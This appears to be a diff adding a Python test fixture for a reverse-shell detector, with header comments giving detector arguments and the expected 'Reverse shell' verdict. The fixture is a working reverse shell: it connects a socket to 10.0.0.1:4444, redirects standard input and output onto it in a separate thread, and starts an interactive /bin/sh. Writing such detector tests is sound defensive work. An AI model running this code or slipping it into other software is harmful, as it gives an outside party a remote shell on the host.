@@ -0,0 +1,22 @@
+# detect-args: virtual_thread=false
+# detect-expect: ^REAL_THREAD True$
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+# 关闭虚拟线程，重定向在真实线程中执行、命令在主线程中执行，两个线程的上下文各自独立，证据通过证据库合并
+import os, socket, subprocess, threading
+
+main_id = threading.get_native_id()
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+
+
+def redirect():
+    print("REAL_THREAD", threading.get_native_id() != main_id, flush=True)
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+
+
+t = threading.Thread(target=redirect)
+t.start()
+t.join()
+subprocess.call(["/bin/sh", "-i"])